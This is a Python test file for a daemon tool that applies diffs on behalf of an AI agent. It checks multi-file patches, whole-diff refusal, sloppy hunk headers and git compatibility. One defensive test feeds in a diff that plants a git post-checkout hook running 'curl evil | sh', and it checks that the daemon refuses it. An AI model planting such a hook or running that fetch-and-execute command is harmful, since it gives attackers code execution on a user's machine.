"""apply_agent_diff_tool_call on the real daemon, and tools/diffs.py's diff maker against git."""

from __future__ import annotations

import os
import random
import subprocess
from pathlib import Path

from exec_daemon.client import ExecDaemonClient
from tests.daemon_process import RunningDaemon
from tests.shared_daemon import *  # noqa: F403 (the daemon, space and client fixtures)
from tests.workspace_support import case, diff_call, result_of
from tools.diffs import JOURNAL_FOLDER, apply_hunks, parse_unified_diff, unified_diff

MULTI_FILE = """\
diff --git a/app.py b/app.py
index 1111111..2222222 100644
--- a/app.py
+++ b/app.py
@@ -1,4 +1,4 @@
 import os
-DEBUG = True
+DEBUG = False

 def main():
@@ -8,3 +8,4 @@ def main():
     run()
     stop()
     return 0
+# end
diff --git a/new.txt b/new.txt
new file mode 100644
--- /dev/null
+++ b/new.txt
@@ -0,0 +1,2 @@
+hello
+world
diff --git a/old.txt b/old.txt
deleted file mode 100644
--- a/old.txt
+++ /dev/null
@@ -1,1 +0,0 @@
-bye
"""


def snapshot(directory: Path) -> dict[str, str]:
    return {path.name: path.read_text() for path in sorted(directory.iterdir())}


APP = "import os\nDEBUG = True\n\ndef main():\n    setup()\n\n    load()\n    run()\n    stop()\n    return 0\n"


async def test_applies_a_multi_file_git_diff(client: ExecDaemonClient, space: Path) -> None:
    (space / "app.py").write_text(APP)
    (space / "old.txt").write_text("bye\n")
    result = await result_of(client, diff_call(MULTI_FILE, space))
    assert case(result) == "success"
    applied = {f.path: f for f in result.success.files}
    assert set(applied) == {
        f"{space.name}/app.py",
        f"{space.name}/new.txt",
        f"{space.name}/old.txt",
    }
    app = applied[f"{space.name}/app.py"]
    assert (app.lines_added, app.lines_removed) == (2, 1)
    assert applied[f"{space.name}/new.txt"].created
    assert applied[f"{space.name}/old.txt"].deleted
    assert (space / "app.py").read_text() == APP.replace("True", "False") + "# end\n"
    assert (space / "new.txt").read_text() == "hello\nworld\n"
    assert not (space / "old.txt").exists()


async def test_an_applied_or_refused_diff_leaves_no_record_nor_temp_file(
    daemon: RunningDaemon, client: ExecDaemonClient, space: Path
) -> None:
    (space / "app.py").write_text(APP)
    (space / "old.txt").write_text("bye\n")
    refused = await result_of(client, diff_call(MULTI_FILE.replace("-bye", "-hello"), space))
    assert case(refused) == "does_not_apply"
    applied = await result_of(client, diff_call(MULTI_FILE, space))
    assert case(applied) == "success"
    journal = daemon.state_dir / "terminals" / JOURNAL_FOLDER
    assert os.listdir(journal) == []
    assert sorted(os.listdir(space)) == ["app.py", "new.txt"]


async def test_refuses_the_whole_diff_when_one_hunk_does_not_apply(
    client: ExecDaemonClient, space: Path
) -> None:
    (space / "app.py").write_text(APP.replace("    stop()\n", "    halt()\n"))
    (space / "old.txt").write_text("bye\n")
    before = snapshot(space)
    result = await result_of(client, diff_call(MULTI_FILE, space))
    assert case(result) == "does_not_apply"
    assert result.does_not_apply.path == "app.py"
    assert result.does_not_apply.hunk_index == 2
    assert "hunk 2 does not apply" in result.does_not_apply.reason
    assert snapshot(space) == before


async def test_tolerates_wrong_line_numbers_and_counts(
    client: ExecDaemonClient, space: Path
) -> None:
    (space / "f.txt").write_text("".join(f"{n}\n" for n in range(1, 41)))
    sloppy = "--- f.txt\n+++ f.txt\n@@ -3,9 +3,2 @@\n 30\n-31\n+thirty-one\n 32\n"
    result = await result_of(client, diff_call(sloppy, space))
    assert case(result) == "success", result
    assert "29\n30\nthirty-one\n32\n" in (space / "f.txt").read_text()


async def test_creating_an_existing_file_or_patching_a_missing_one_is_refused(
    client: ExecDaemonClient, space: Path
) -> None:
    (space / "here.txt").write_text("x\n")
    create = "--- /dev/null\n+++ b/here.txt\n@@ -0,0 +1 @@\n+y\n"
    result = await result_of(client, diff_call(create, space))
    assert case(result) == "does_not_apply" and "already exists" in result.does_not_apply.reason
    missing = "--- a/gone.txt\n+++ b/gone.txt\n@@ -1 +1 @@\n-a\n+b\n"
    result = await result_of(client, diff_call(missing, space))
    assert case(result) == "does_not_apply" and "does not exist" in result.does_not_apply.reason
    assert (space / "here.txt").read_text() == "x\n"


async def test_protected_paths_in_a_diff_refuse_it_all(
    client: ExecDaemonClient, space: Path
) -> None:
    (space / "ok.txt").write_text("a\n")
    diff = (
        "--- a/ok.txt\n+++ b/ok.txt\n@@ -1 +1 @@\n-a\n+b\n"
        "--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n"
    )
    result = await result_of(client, diff_call(diff, space))
    assert case(result) == "permission_denied"
    assert (space / "ok.txt").read_text() == "a\n"
    assert not (space / ".git").exists()


async def test_no_newline_at_end_of_file_markers(client: ExecDaemonClient, space: Path) -> None:
    (space / "n.txt").write_text("a\nb")
    diff = "--- a/n.txt\n+++ b/n.txt\n@@ -1,2 +1,2 @@\n a\n-b\n\\ No newline at end of file\n+c\n"
    assert case(await result_of(client, diff_call(diff, space))) == "success"
    assert (space / "n.txt").read_text() == "a\nc\n"


async def test_empty_or_garbage_diff_is_an_error(client: ExecDaemonClient, space: Path) -> None:
    assert case(await result_of(client, diff_call("", space))) == "error"
    assert case(await result_of(client, diff_call("just some words\n", space))) == "error"


def _random_text(rng: random.Random, lines: int) -> str:
    words = ["alpha", "beta", "", "gamma delta", "    indented", "}"]
    text = "\n".join(rng.choice(words) for _ in range(lines))
    return text + "\n" if rng.random() < 0.7 else text


def _mutate(rng: random.Random, text: str) -> str:
    lines = text.split("\n")
    for _ in range(rng.randint(1, 4)):
        at = rng.randint(0, len(lines))
        roll = rng.random()
        if roll < 0.35:
            lines.insert(at, rng.choice(["new", "", "other"]))
        elif roll < 0.7 and len(lines) > 1:
            lines.pop(min(at, len(lines) - 1))
        else:
            lines[min(at, len(lines) - 1)] = "changed"
    return "\n".join(lines)


def test_made_diffs_apply_with_git_and_with_our_applier(tmp_path: Path) -> None:
    rng = random.Random(4)
    for trial in range(300):
        old = _random_text(rng, rng.randint(0, 40))
        new = _mutate(rng, old)
        if old == new:
            continue
        stats = unified_diff(old, new, "f.txt")
        assert apply_hunks(old, parse_unified_diff(stats.diff)[0]) == new, stats.diff
        if trial % 30 == 0:
            (tmp_path / "f.txt").write_text(old)
            subprocess.run(
                ["git", "apply", "-"], input=stats.diff.encode(), cwd=tmp_path, check=True
            )
            assert (tmp_path / "f.txt").read_text() == new


def test_diff_of_a_small_change_in_a_huge_text_stays_small() -> None:
    old = "".join(f"line {n}\n" for n in range(500_000))
    new = old.replace("line 250000\n", "line 250000 changed\n")
    stats = unified_diff(old, new, "big.txt")
    assert (stats.lines_added, stats.lines_removed) == (1, 1)
    assert "@@ -249998,7 +249998,7 @@" in stats.diff
    assert len(stats.diff) < 300
